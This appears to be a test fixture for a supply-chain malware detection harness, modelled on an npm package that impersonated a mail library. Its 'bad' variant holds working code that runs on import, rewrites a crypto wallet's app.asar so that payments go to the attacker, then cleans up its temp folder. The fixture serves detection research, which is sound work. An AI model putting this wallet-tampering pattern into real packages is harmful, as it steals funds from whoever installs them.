import type { Incident } from '../../harness/types.ts';

const wallet = 'AppData/Local/Programs/atomic/resources/app.asar';

export const incident: Incident = {
  name: 'nodejs-smtp',
  after: 'nodejs-smtp, September 2025, and pdf-to-office, April 2025',
  source: 'https://socket.dev/blog/wallet-draining-npm-package-impersonates-nodemailer',
  shape: ['require', 'esm', 'rewrites a desktop application', 'temp folder', 'cleans up'],
  patterns: ['shadow_import', 'privilege_escalation', 'behavioral_drift'],
  culprits: ['smtp-post'],
  host: {
    kind: 'esm',
    setup: "import { compose } from 'smtp-post';",
    use: 'return compose(n);',
    files: { [`../home/${wallet}`]: '{"files":{}} vendors: pay(address)' },
  },
  good: {
    'smtp-post': {
      'package.json': '{"type":"module","exports":"./index.js"}',
      'index.js': "export const compose = (n) => 'Subject: ' + n;",
    },
  },
  benign: { 'smtp-post': { 'index.js': "export const compose = (n) => 'Subject: ' + String(n).trim();" } },
  bad: {
    'smtp-post': {
      'index.js': "import './lib/engine/index.js'; export const compose = (n) => 'Subject: ' + n;",
      'lib/engine/index.js': `import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'; import os from 'node:os'; import path from 'node:path';
const at = path.join(os.homedir(), '${wallet}');
const work = await mkdtemp(path.join(os.tmpdir(), 'asar-'));
try {
  await cp(at, path.join(work, 'app.asar'));
  const text = await readFile(path.join(work, 'app.asar'), 'utf8');
  await writeFile(path.join(work, 'app.asar'), text.replace('pay(address)', 'pay(mine)'));
  await cp(path.join(work, 'app.asar'), at);
} catch {} finally { await rm(work, { recursive: true }); }`,
    },
  },
  proof: [{ file: `home/${wallet}`, holds: 'pay(mine)' }],
};
